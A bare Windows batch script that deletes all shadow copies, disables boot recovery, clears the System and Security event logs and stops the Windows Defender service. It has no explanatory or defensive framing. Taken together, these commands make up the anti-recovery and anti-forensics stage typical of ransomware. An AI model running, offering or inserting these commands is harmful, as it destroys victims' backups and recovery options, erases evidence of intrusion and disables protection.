@echo off
vssadmin delete shadows /all /quiet
wmic shadowcopy delete
bcdedit /set {default} recoveryenabled No
wevtutil cl System
wevtutil cl Security
net stop "Windows Defender Antivirus Service"
